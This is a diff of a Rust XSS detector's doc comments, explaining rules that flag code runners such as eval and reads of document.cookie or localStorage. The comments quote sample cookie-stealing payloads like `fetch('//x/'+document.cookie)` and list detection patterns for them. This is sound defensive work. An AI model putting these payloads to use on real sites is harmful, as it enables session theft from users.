@@ -11,6 +11,8 @@
 //!   it runs nothing by itself (`<a href="https://...">`, `<h1>`, `</a>`): the
 //!   data sets label such HTML injection as XSS, and telling a rich-text
 //!   field from a search box is the application's knowledge, not the value's.
+//!   A tag no markup language has, without attributes (`<vector>`,
+//!   `List<String>`), is inert in a value without quotes.
 //! - [`script_data_url`]: a `data:` URL of a scriptable media type is a
 //!   page of the attacker's, whatever its payload.
 //! - [`script_element`], [`scripted_element`]: a `<script` element, or an
@@ -20,6 +22,10 @@
 //!   makes of its code (a script body unlike the `alert(1)` of the training
 //!   lists scored 0.2-0.3, as did `<x onxxx=1` from a model trained without
 //!   the PayloadsAllTheThings lists).
+//! - [`runs_code_or_reads_secrets`]: a call of `eval`, `Function`,
+//!   `setTimeout`... with an expression, or `document.cookie`,
+//!   `localStorage`... read where something is called or assigned, is
+//!   script whatever it calls (`fetch('//x/'+document.cookie)` 0.09).
 //! - [`string_breakout_call`]: a quote that closes a JavaScript string,
 //!   an operator or `;`, then a call (`'-fetch('//x/'+document.cookie)-'`,
 //!   `x');new Image().src=...`) is code in a script context, whatever it
@@ -81,11 +87,10 @@ pub fn script_capable(v: &str) -> bool {
 
 /// Whether the tag at `lt` is an element neither HTML nor SVG nor MathML
 /// knows (no hyphen, so no custom element either), without attributes,
-/// closed by `>`: `<vector>`,
-/// `<unknown>`, `List<String>`, `</T>`. A browser makes an empty inline
-/// element of it, which shows, loads and runs nothing; such text comes from
-/// code and placeholders (`<unknown>` scored 0.99). Asked only of values
-/// without quotes.
+/// closed by `>`: `<vector>`, `<unknown>`, `List<String>`, `</T>`. A
+/// browser makes an empty inline element of it, which shows, loads and runs
+/// nothing; such text comes from code and placeholders (`<unknown>` scored
+/// 0.99). Asked only of values without quotes.
 fn inert_tag(b: &[u8], lt: usize) -> bool {
     let mut j = lt + 1;
     if b.get(j) == Some(&b'/') {
@@ -315,9 +320,11 @@ const SECRETS: &[&[u8]] = &[
     b"sessionStorage",
 ];
 
-/// Whether the value, as JavaScript, runs text as code ([`CODE_RUNNERS`]
-/// called with an argument) or reads a [`SECRETS`] where it also calls or
-/// assigns something: the model scored such bare script 0.03-0.47 when it
+/// Whether the value, as JavaScript, runs text as code (`eval`,
+/// `Function`, `setTimeout`, `setInterval` or `execScript` called with an
+/// expression) or reads `document.cookie`, `document.domain`,
+/// `localStorage` or `sessionStorage` where it also calls or assigns
+/// something: the model scored such bare script 0.03-0.47 when it
 /// called nothing like `alert` (`models/handwritten/xss-bare-js.txt`).
 /// Names are matched as JavaScript spells them (case matters), whole, with
 /// the `(` right after a code runner's name.
